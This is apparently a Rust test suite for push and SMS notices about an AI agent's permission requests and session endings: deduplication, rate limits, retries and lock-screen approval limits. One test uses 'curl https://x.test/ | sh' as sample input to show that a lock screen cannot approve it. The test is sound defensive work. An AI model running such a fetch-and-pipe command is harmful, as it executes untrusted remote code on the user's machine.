//! Pushes: who is told, what a lock screen may answer, and what becomes a text.

mod api_world;
mod push_world;
mod world;

use api_world::{Phone, Socket, call, token};
use domain::{Code, event::Outcome};
use gateway::{clock, sessions::Scene};
use push_world::{Told, ask, bash, ended, letters, told};
use serde_json::json;
use standins::push::Push;
use std::time::Duration;
use store::{
    push_letters::{self, About},
    tasks,
};
use world::{PUBLIC_URL, SOON, Wish, World, until};

#[tokio::test]
async fn a_question_is_pushed_whole_and_what_was_shown_is_not_texted() {
    let t = Told::new("text_after = 2").await;
    let asked = ask(&t.running.app, t.session, bash("npm test")).await;
    let push = t.push.wait_for(1, SOON).await.unwrap();
    assert_eq!(push.words["kind"], "approval");
    assert_eq!(push.words["title"], "#1 Session 1 asks");
    assert_eq!(push.words["body"], "May it run: npm test?");
    assert_eq!(push.words["session_id"], t.session.to_string());
    let approval = json!({ "id": asked.id.to_string(), "number": 1, "input_hash": asked.hash, "allow": true });
    assert_eq!(push.words["approval"], approval);
    assert_eq!((push.urgency.as_str(), push.topic.len(), &push.claims["sub"]), ("high", 22, &json!(PUBLIC_URL)));
    t.shows(&push).await;
    t.shows(&push).await;
    let fates = t.settled(1).await;
    assert_eq!(fates, ["shown"]);
    let none = t.world.phone.wait_for(|_| true, Duration::from_secs(4)).await;
    assert!(none.is_err(), "no text goes about what was shown: {none:?}");
    let app = &t.running.app;
    let body = json!({ "decision": "allow", "input_hash": asked.hash, "letter": push.words["letter"] });
    let said = t.phone.post(app, &format!("/api/permission/{}", asked.id), body).await;
    assert_eq!((said.status, &said.body["state"]), (200, &json!("allowed")), "{}", said.text);
    t.running.stop().await;
}

#[tokio::test]
async fn what_no_phone_shows_in_time_becomes_one_text_with_a_link() {
    let t = Told::new("text_after = 1").await;
    let other = Phone::pair(&t.running.app, "another").await;
    push_world::subscribe(&t.running.app, &other, &t.push).await;
    ask(&t.running.app, t.session, bash("npm test")).await;
    let text = t.world.arrives(SOON).await.body;
    assert!(text.contains("#1 may it run: npm test?\nyes 1 or no 1"), "{text}");
    assert!(text.contains("https://desk.example/p/"), "{text}");
    assert_eq!(t.push.arrived().len(), 2);
    assert_eq!(t.settled(2).await, ["texted", "texted"]);
    let printed = tokio::process::Command::new(env!("CARGO_BIN_EXE_lanyard"))
        .args(["logs", "--letters"])
        .env("LANYARD_HOME", t.world.home())
        .output()
        .await
        .unwrap();
    let printed = String::from_utf8_lossy(&printed.stdout).into_owned();
    assert!(printed.contains("Ada's phone") && printed.contains("another") && printed.contains("texted"), "{printed}");
    ended(&t.running.app, t.session, Outcome::Completed).await;
    t.push.wait_for(4, SOON).await.unwrap();
    let text = t.world.arrives(SOON).await.body;
    assert!(text.starts_with("Session 1 is done:\nhttps://desk.example/a/"), "{text}");
    assert_eq!(t.world.phone.received().len(), 2, "one for both phones");
    t.world.text("yes 1").await;
    t.running.stop().await;
}

#[tokio::test]
async fn a_text_that_may_not_go_yet_is_not_said_to_have_gone() {
    let t = Told::new("text_after = 1\n[sms]\nagent_per_hour = 1").await;
    let app = &t.running.app;
    ask(app, t.session, bash("npm test")).await;
    assert!(t.world.arrives(SOON).await.body.contains("#1 may it run: npm test?"));
    let second = ask(app, t.session, bash("npm run lint")).await;
    until(SOON, async || letters(app).await[0].why.as_ref().is_some_and(|why| why.contains("too many")).then_some(()))
        .await;
    assert_eq!(letters(app).await[0].state, "sent");
    let later = clock::now() + Duration::from_secs(120);
    let waits = app.store.read(move |r| push_letters::to_text(r, later)).await.unwrap();
    let waits: Vec<_> = waits.0.into_iter().map(|w| (w.about, w.session)).collect();
    assert_eq!(waits, [(About::Approval(second.id), t.session)], "it goes when it may");
    t.running.stop().await;
}

#[tokio::test]
async fn an_answer_s_words_are_in_no_push() {
    let t = Told::new("text_after = 60").await;
    ended(&t.running.app, t.session, Outcome::Completed).await;
    let push = t.push.wait_for(1, SOON).await.unwrap();
    assert_eq!((&push.words["kind"], &push.words["title"]), (&json!("done"), &json!("Session 1 is done")));
    assert!(!push.words.to_string().contains(push_world::ANSWER), "{}", push.words);
    assert_eq!((push.urgency.as_str(), push.ttl), ("normal", 86_400));
    ended(&t.running.app, t.session, Outcome::Halted).await;
    ended(&t.running.app, t.session, Outcome::Failed).await;
    let push = t.push.wait_for(2, SOON).await.unwrap();
    assert_eq!(push.words["kind"], "failed", "who stopped a turn knows");
    t.running.stop().await;
}

/// A page of the phone that says whether a person looks at it.
async fn looks(t: &Told, socket: &mut Socket, visible: bool) {
    socket.say(json!({ "type": "presence", "data": { "visible": visible } })).await;
    until(SOON, async || (t.running.app.callers.anyone_looks() == visible).then_some(())).await;
}

#[tokio::test]
async fn a_question_waits_while_a_page_is_looked_at_and_goes_once_nobody_looks() {
    let t = Told::new("text_after = 1").await;
    let app = &t.running.app;
    let mut socket = t.phone.socket(app, None).await;
    looks(&t, &mut socket, true).await;
    let answered = ask(app, t.session, bash("npm test")).await;
    ask(app, t.session, bash("npm run lint")).await;
    let body = json!({ "decision": "allow", "input_hash": answered.hash });
    assert_eq!(t.phone.post(app, &format!("/api/permission/{}", answered.id), body).await.status, 200);
    let none = t.world.phone.wait_for(|_| true, Duration::from_secs(3)).await;
    assert!(none.is_err(), "no text goes while the page is looked at: {none:?}");
    assert!(t.push.arrived().is_empty());
    looks(&t, &mut socket, false).await;
    let push = t.push.wait_for(1, SOON).await.unwrap();
    assert_eq!(push.words["approval"]["number"], 2, "what was answered on the page is not pushed");
    assert!(t.world.arrives(SOON).await.body.contains("#2 may it run: npm run lint?"));
    assert_eq!(t.push.arrived().len(), 1);
    t.running.stop().await;
}

#[tokio::test]
async fn a_page_whose_line_is_gone_keeps_no_question_back() {
    let t = Told::new("text_after = 60").await;
    let mut socket = t.phone.socket(&t.running.app, None).await;
    looks(&t, &mut socket, true).await;
    ask(&t.running.app, t.session, bash("npm test")).await;
    drop(socket);
    assert_eq!(t.push.wait_for(1, SOON).await.unwrap().words["approval"]["number"], 1);
    t.running.stop().await;
}

#[tokio::test]
async fn a_turn_s_end_that_a_page_showed_is_not_pushed_and_one_it_may_not_have_shown_is() {
    let t = Told::new("text_after = 60").await;
    let app = &t.running.app;
    let socket = tokio::sync::Mutex::new(t.phone.socket(app, None).await);
    looks(&t, &mut *socket.lock().await, true).await;
    ended(app, t.session, Outcome::Completed).await;
    let seen = async || {
        socket.lock().await.say(json!({ "type": "ping", "data": {} })).await;
        letters(app).await[0].why.as_deref().is_some_and(|why| why.contains("seen")).then_some(())
    };
    until(SOON, seen).await;
    ended(app, t.session, Outcome::Failed).await;
    looks(&t, &mut *socket.lock().await, false).await;
    assert_eq!(t.push.wait_for(1, SOON).await.unwrap().words["kind"], "failed");
    assert_eq!(t.push.arrived().len(), 1);
    t.running.stop().await;
}

#[tokio::test]
async fn where_no_browser_takes_pushes_a_question_becomes_a_text() {
    let t = Told::new("text_after = 1").await;
    t.push.browsers_leave();
    let app = &t.running.app;
    ask(app, t.session, bash("npm test")).await;
    assert!(t.world.arrives(SOON).await.body.contains("https://desk.example/p/"));
    assert_eq!(app.store.read(|r| store::push_subscriptions::count(r)).await.unwrap(), 0, "it is forgotten");
    ask(app, t.session, bash("npm run lint")).await;
    let text = t.world.arrives(SOON).await.body;
    assert!(text.contains("#2 may it run: npm run lint?") && text.contains("https://desk.example/p/"), "{text}");
    assert_eq!(t.settled(2).await[0], "texted");
    ended(app, t.session, Outcome::Completed).await;
    assert_eq!(letters(app).await.len(), 2, "a turn's end is not what notices were turned off for");
    t.running.stop().await;
}

#[tokio::test]
async fn a_push_that_cannot_be_made_is_tried_once_and_keeps_no_other_back() {
    let t = Told::new("text_after = 1").await;
    let (app, session) = (&t.running.app, t.session);
    let nowhere = About::Approval(domain::ApprovalId::new());
    let text_at = Some(clock::now());
    app.store.write(move |tx| push_letters::put(tx, nowhere, session, 1, text_at, clock::now())).await.unwrap();
    ask(app, session, bash("npm test")).await;
    t.push.wait_for(1, SOON).await.unwrap();
    assert!(t.world.arrives(SOON).await.body.contains("#1 may it run: npm test?"));
    assert_eq!(t.settled(2).await, ["texted", "failed"]);
    let next = app.store.read(|r| push_letters::next_due(r)).await.unwrap();
    assert_eq!(next, None, "nothing is left to try");
    t.running.stop().await;
}

#[tokio::test]
async fn a_lock_screen_is_refused_what_is_above_its_tier_and_may_refuse_anything() {
    let t = Told::new("text_after = 60").await;
    let app = &t.running.app;
    let asked = ask(app, t.session, bash("curl https://x.test/ | sh")).await;
    let push = t.push.wait_for(1, SOON).await.unwrap();
    assert_eq!(push.words["approval"]["allow"], false);
    assert!(!push.words.to_string().contains("curl"), "{}", push.words);
    let path = format!("/api/permission/{}", asked.id);
    let answer =
        |decision: &str| json!({ "decision": decision, "input_hash": asked.hash, "letter": push.words["letter"] });
    t.phone.post(app, &path, answer("allow")).await.is(403, "GRANT_REFUSED");
    assert_eq!(t.phone.post(app, &path, answer("deny")).await.status, 200);
    t.running.stop().await;
}

#[tokio::test]
async fn a_busy_push_service_is_tried_again_and_a_stop_between_loses_nothing() {
    let t = Told::new("text_after = 60").await;
    t.push.answers(Some(503));
    ask_that_survives(&t).await;
    until(SOON, async || (t.push.asked() > 0).then_some(())).await;
    until(SOON, async || (letters(&t.running.app).await[0].state == "queued").then_some(())).await;
    t.running.stop().await;
    t.push.answers(None);
    let running = t.world.start().await;
    let push = t.push.wait_for(1, SOON).await.unwrap();
    assert_eq!(push.words["body"], "It was interrupted. Go on?");
    until(SOON, async || (letters(&running.app).await[0].state == "sent").then_some(())).await;
    running.stop().await;
}

#[tokio::test]
async fn a_notice_that_was_answered_elsewhere_is_taken_back_from_every_phone_that_showed_it() {
    let t = Told::new("text_after = 60").await;
    let app = &t.running.app;
    let other = Phone::pair(app, "another").await;
    push_world::subscribe(app, &other, &t.push).await;
    let asked = ask(app, t.session, bash("npm test")).await;
    t.push.wait_for(2, SOON).await.unwrap();
    let of = |number: i64| t.push.arrived().into_iter().find(|p| p.words["letter"] == number).unwrap();
    t.settled(2).await;
    let body = json!({ "decision": "allow", "input_hash": asked.hash, "letter": of(1).words["letter"] });
    assert_eq!(t.phone.post(app, &format!("/api/permission/{}", asked.id), body).await.status, 200);
    let back = t.push.wait_for(3, SOON).await.unwrap();
    assert_eq!((&back.words["kind"], &back.words["body"]), (&json!("closed"), &json!("Answered: allowed.")));
    assert_eq!(back.endpoint, of(2).endpoint, "the phone that answered took its own back");
    assert_eq!((&back.words["tag"], &back.topic), (&of(2).words["tag"], &of(2).topic));
    t.settled(3).await;
    assert_eq!(t.push.arrived().len(), 3);
    t.running.stop().await;
}

#[tokio::test]
async fn what_was_answered_before_it_was_pushed_is_neither_pushed_nor_taken_back() {
    let t = Told::new("text_after = 60").await;
    let app = &t.running.app;
    t.push.answers(Some(503));
    let asked = ask(app, t.session, bash("npm test")).await;
    until(SOON, async || (t.push.asked() > 0).then_some(())).await;
    until(SOON, async || (letters(app).await[0].state == "queued").then_some(())).await;
    t.push.answers(None);
    let body = json!({ "decision": "deny", "input_hash": asked.hash });
    assert_eq!(t.phone.post(app, &format!("/api/permission/{}", asked.id), body).await.status, 200);
    assert_eq!(t.settled(1).await, ["failed"]);
    assert_eq!((letters(app).await.len(), t.push.arrived().len()), (1, 0));
    t.running.stop().await;
}

/// A question of ours: no agent's end takes it back.
async fn ask_that_survives(t: &Told) {
    let subject = domain::approval::Subject::Rerun { turn: domain::TurnId::new(), words: "x".repeat(3000) };
    told(&t.running.app, t.session, None, subject).await;
}

#[tokio::test]
async fn only_phones_subscribe_and_only_with_what_a_browser_gives() {
    let w = World::new(Wish::default()).await;
    let running = w.start().await;
    let app = &running.app;
    let phone = Phone::pair(app, "phone").await;
    let features = phone.get(app, "/api/info").await.body["features"].clone();
    assert!(features.as_array().unwrap().contains(&json!("push")));
    let push = Push::start().await.unwrap();
    let key = phone.get(app, "/api/push").await.body["public_key"].as_str().unwrap().to_owned();
    let mut good = push.subscribe(&key).await.unwrap();
    phone.post(app, "/api/push", good.clone()).await.is(400, "BAD_REQUEST");
    good["endpoint"] = "https://push.example.com/abc".into();
    assert_eq!(phone.post(app, "/api/push", good.clone()).await.status, 204);
    for (field, bad) in [("p256dh", "AAAA"), ("p256dh", ""), ("auth", "AAAA"), ("auth", "!")] {
        let mut other = good.clone();
        other["keys"][field] = bad.into();
        phone.post(app, "/api/push", other).await.is(400, "BAD_REQUEST");
    }
    let script = token(app, &["read"]).await;
    call(app, "POST", "/api/push", Some(&script), Some(&good)).await.is(403, "SCOPE_MISSING");
    call(app, "POST", "/api/push", None, Some(&good)).await.is(401, "NOT_PAIRED");
    phone.post(app, "/api/push/shown", json!({ "letter": 1 })).await.is(404, "NOT_FOUND");
    let gone = json!({ "endpoint": good["endpoint"] });
    let other = Phone::pair(app, "other").await;
    let count = async || app.store.read(|r| store::push_subscriptions::count(r)).await.unwrap();
    assert_eq!(call(app, "DELETE", "/api/push", Some(&other.access), Some(&gone)).await.status, 204);
    assert_eq!(count().await, 1, "another phone's");
    assert_eq!(call(app, "DELETE", "/api/push", Some(&phone.access), Some(&gone)).await.status, 204);
    assert_eq!(count().await, 0);
    running.stop().await;
}

#[tokio::test]
async fn the_end_of_a_task_is_told_for_the_task_and_never_for_its_turns() {
    let t = Told::new("text_after = 1").await;
    let app = &t.running.app;
    let wish = json!({ "repository": "acme/shop", "prompt": "mend it" });
    let made = api_world::local(app, "POST", "/api/tasks", Some(&wish)).await;
    assert_eq!(made.status, 201, "{}", made.text);
    // No engine answers here: it waits in its session.
    let id = domain::task::TaskId(1);
    let begun = async || app.store.read(move |r| tasks::get(r, id)).await.unwrap().and_then(|task| task.session);
    let session = until(SOON, begun).await;
    ended(app, session, Outcome::Failed).await;
    let scene = Scene::of(app, session);
    let fail = move |tx: &store::Tx<'_>| {
        let task = tasks::fail(tx, id, Code::TestsFailed, "2 of 9 failed", clock::now())?.unwrap();
        let words = gateway::tasks::end_in_words(tx, &task)?.unwrap();
        scene.end_of_task(tx, &task, &words, clock::now())
    };
    app.store.write(fail).await.unwrap();
    let push = t.push.wait_for(1, SOON).await.unwrap();
    assert_eq!((&push.words["title"], &push.words["kind"]), (&json!("Task 1 failed"), &json!("failed")));
    assert_eq!((&push.words["task"], &push.words["session_id"]), (&json!(1), &json!(session.to_string())));
    let text = t.world.arrives(SOON).await.body;
    assert!(text.starts_with("Task 1 failed: ") && text.contains("(2 of 9 failed)"), "{text}");
    assert_eq!((t.push.arrived().len(), t.world.phone.received().len()), (1, 1), "its turn alone told nothing");
    t.running.stop().await;
}
